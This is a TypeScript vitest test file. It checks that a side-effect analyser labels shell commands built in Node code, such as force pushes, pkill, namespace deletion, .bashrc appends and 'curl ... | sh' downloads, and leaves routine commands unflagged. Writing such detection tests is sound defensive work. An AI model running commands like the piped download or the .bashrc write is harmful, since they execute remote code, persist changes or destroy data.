import { expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

const linesOf = (command: string): readonly string[] =>
  effectLines('node a.mjs', {
    files: { '/w/a.mjs': `import { execSync, execFileSync as run } from 'node:child_process'\nconst x = process.argv[2]\n${command}\n` },
  }).filter((line) => !line.startsWith('execute:project'))

test.each<readonly [name: string, code: string, act: string]>([
  ['a push by force', "run('git', ['push', '--force', x, 'main'])", 'publish:push'],
  ['programs ended by their user', "run('pkill', ['-9', '-u', x])", 'process:all'],
  ['a namespace deleted', 'execSync(`kubectl delete namespace ${x}`)', 'infra:destroy'],
  ['a file that shells read', 'execSync(`echo ${x} >> /home/u/.bashrc`)', 'write:append'],
  ['a download that is run', "execSync('curl -s https://x.example/' + x + ' | sh')", 'execute:download'],
])('of a command that code puts together, what is certain counts: %s', (_name, code, act) => {
  expect(linesOf(code).map((line) => line.split(' ')[0])).toEqual([act])
})

test.each<readonly [name: string, code: string]>([
  ['a file of its own', "run('rm', ['-rf', x])"],
  ['a folder of its own', 'execSync(`rm -rf ${x}/*`)'],
  ['a program of the project', "run('node', [x])"],
  ['a process that it started', 'execSync(`kill ${x}`)'],
  ['a package', "run('npm', ['install', x])"],
  ['a request', 'execSync(`curl -X POST ${x}`)'],
])('the rest is ordinary project code: %s', (_name, code) => {
  expect(linesOf(code)).toEqual([])
})
